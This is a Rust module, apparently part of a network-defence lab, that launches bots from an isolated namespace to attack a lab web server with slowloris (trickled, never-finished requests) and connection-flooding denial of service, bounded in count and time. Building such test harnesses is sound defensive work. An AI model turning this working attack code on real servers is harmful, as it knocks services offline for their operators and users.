//! Attackers' machines with connections of their own: real sockets in a namespace of theirs, bounded in number and time.
//!
//! They do to the web server what no packet gives away: hold connections that ask for nothing, or ask all the time. They are
//! a thread of this process, and end with it.

use std::net::{IpAddr, SocketAddr};
use std::rc::Rc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, OnceLock};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant, SystemTime};

use anyhow::{Context, Result, anyhow};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;
use tokio::time::timeout;

use crate::cpu;
use crate::lab::Lab;
use crate::plan::{self, HTTP_PORT, pod_v4, pod_v6};
use crate::state;

/// Connections that those who dawdle hold: more than the lab's nginx has places.
const HELD: u64 = 9_000;
/// How many of them are opened in a second.
const OPENED_PER_S: u64 = 3_000;
/// Connections that those who hammer have at a time.
const AT_A_TIME: u64 = 4_000;
/// The most connections of a run, whoever closes them.
const MOST: u64 = 400_000;
/// A line that does not end the request, so often.
const LINE_EVERY: Duration = Duration::from_secs(3);
/// Nobody waits longer for an answer.
const PATIENCE: Duration = Duration::from_secs(5);
/// Between looks whether it is over.
const TICK: Duration = Duration::from_millis(20);
/// Files that the rest of this process needs.
const SPARE_FILES: u64 = 2_000;

const BEGINNING: &[u8] = b"GET / HTTP/1.1\r\nHost: shop.example\r\n";
const LINE: &[u8] = b"X-Patience: 1\r\n";
const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n";

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Habit {
    /// Begin requests and never finish them (slowloris).
    Dawdle,
    /// One request after the other, on many connections.
    Hammer,
}

/// What they came to.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct Done {
    /// Connections that came about.
    pub connected: u64,
    /// Attempts that did not.
    pub refused: u64,
    /// Requests that were answered.
    pub answered: u64,
    /// Connections open at the end.
    pub open: u64,
}

#[derive(Default)]
struct Counters {
    first: OnceLock<SystemTime>,
    begun: AtomicU64,
    connected: AtomicU64,
    refused: AtomicU64,
    answered: AtomicU64,
    open: AtomicU64,
}

/// Machines at work. They stop after their time; dropping this stops them at once.
pub struct Bots {
    stop: Arc<AtomicBool>,
    counters: Arc<Counters>,
    thread: Option<JoinHandle<Result<()>>>,
}

/// As many open files as this process may have: what it starts inherits that.
pub fn allow_many_files() -> Result<()> {
    let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
    setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum }).context("cannot raise the number of open files")
}

impl Bots {
    /// Sends them at the first pod for `time` at most. They are refused in a namespace that the lab has not recorded.
    pub fn start(lab: &Lab, habit: Habit, time: Duration) -> Result<Bots> {
        let ns = lab.layout().bots.clone().context("this lab has no attackers with connections")?;
        state::check_namespace(lab.id(), ns.name())?;
        let (stop, counters) = (Arc::<AtomicBool>::default(), Arc::<Counters>::default());
        let sources = plan::bots(lab.shape().bots);
        let thread = thread::Builder::new().name("lab-bots".into()).spawn({
            let (stop, counters) = (stop.clone(), counters.clone());
            move || {
                ns.enter()?;
                cpu::tie(None, &[cpu::cores()?.attack])?;
                let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
                let army = Rc::new(Army { sources, counters, stop });
                LocalSet::new().block_on(&runtime, army.attack(habit, time));
                Ok(())
            }
        })?;
        Ok(Bots { stop, counters, thread: Some(thread) })
    }

    /// Just before the first packet was sent, if it was.
    pub fn began(&self) -> Option<SystemTime> {
        self.counters.first.get().copied()
    }

    /// Connections so far.
    pub fn so_far(&self) -> u64 {
        self.counters.connected.load(Ordering::Relaxed)
    }

    /// Whether they are still at it.
    pub fn are_running(&self) -> bool {
        self.thread.as_ref().is_some_and(|thread| !thread.is_finished())
    }

    /// Ends them.
    pub fn stop(mut self) -> Result<Done> {
        let read = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        // Before they close what they hold.
        let open = read(&self.counters.open);
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().ok_or_else(|| anyhow!("the attackers were stopped already"))?;
        thread.join().map_err(|_| anyhow!("the attackers' thread panicked"))?.context("the attackers")?;
        let Counters { connected, refused, answered, .. } = &*self.counters;
        Ok(Done { connected: read(connected), refused: read(refused), answered: read(answered), open })
    }
}

impl Drop for Bots {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // Whoever drops it is on the way out with an error of his own.
            let _ = thread.join();
        }
    }
}

struct Army {
    sources: Vec<IpAddr>,
    counters: Arc<Counters>,
    stop: Arc<AtomicBool>,
}

impl Army {
    /// Keeps as many connections busy as the habit asks for, until the time is over. Dropping the tasks closes the sockets.
    async fn attack(self: Rc<Self>, habit: Habit, time: Duration) {
        let end = Instant::now() + time;
        let files = getrlimit(Resource::Nofile).current.unwrap_or(u64::MAX).saturating_sub(SPARE_FILES);
        let places = match habit {
            Habit::Dawdle => HELD,
            Habit::Hammer => AT_A_TIME,
        }
        .min(files);
        let mut tick = tokio::time::interval(TICK);
        let mut places_taken = 0;
        let each_tick = OPENED_PER_S * TICK.as_millis() as u64 / 1000;
        while !self.stop.load(Ordering::Relaxed) && Instant::now() < end {
            tick.tick().await;
            for _ in 0..each_tick.min(places - places_taken) {
                places_taken += 1;
                tokio::task::spawn_local(self.clone().keep_busy(habit));
            }
        }
    }

    /// One place: a connection, and another when that is closed.
    async fn keep_busy(self: Rc<Self>, habit: Habit) {
        loop {
            let number = self.counters.begun.fetch_add(1, Ordering::Relaxed);
            if number >= MOST {
                return;
            }
            let Some(stream) = self.connect(number).await else {
                self.counters.refused.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(TICK).await;
                continue;
            };
            self.counters.connected.fetch_add(1, Ordering::Relaxed);
            self.counters.open.fetch_add(1, Ordering::Relaxed);
            match habit {
                Habit::Dawdle => dawdle(stream).await,
                Habit::Hammer => {
                    if let Ok(true) = timeout(PATIENCE, request(stream)).await {
                        self.counters.answered.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
            self.counters.open.fetch_sub(1, Ordering::Relaxed);
        }
    }

    async fn connect(&self, number: u64) -> Option<TcpStream> {
        let source = *self.sources.get(plan::by_chance(number, self.sources.len() as u64) as usize)?;
        let (socket, to) = match source {
            IpAddr::V4(_) => (TcpSocket::new_v4(), IpAddr::V4(pod_v4(0))),
            IpAddr::V6(_) => (TcpSocket::new_v6(), IpAddr::V6(pod_v6(0))),
        };
        let socket = socket.ok()?;
        socket.bind(SocketAddr::new(source, 0)).ok()?;
        self.counters.first.get_or_init(SystemTime::now);
        timeout(PATIENCE, socket.connect(SocketAddr::new(to, HTTP_PORT))).await.ok()?.ok()
    }
}

/// Begins a request, and adds a line to it now and then, until the server has enough of it.
async fn dawdle(mut stream: TcpStream) {
    if stream.write_all(BEGINNING).await.is_err() {
        return;
    }
    let mut answer = [0; 512];
    loop {
        match timeout(LINE_EVERY, stream.read(&mut answer)).await {
            // The server says something, or closes: to begin with the next is better.
            Ok(_) => return,
            Err(_) => {
                if stream.write_all(LINE).await.is_err() {
                    return;
                }
            }
        }
    }
}

/// A request by the book; whether it was answered.
async fn request(mut stream: TcpStream) -> bool {
    let mut answer = Vec::with_capacity(8192);
    stream.write_all(REQUEST).await.is_ok()
        && stream.read_to_end(&mut answer).await.is_ok()
        && answer.starts_with(b"HTTP/1.1 200 ")
}
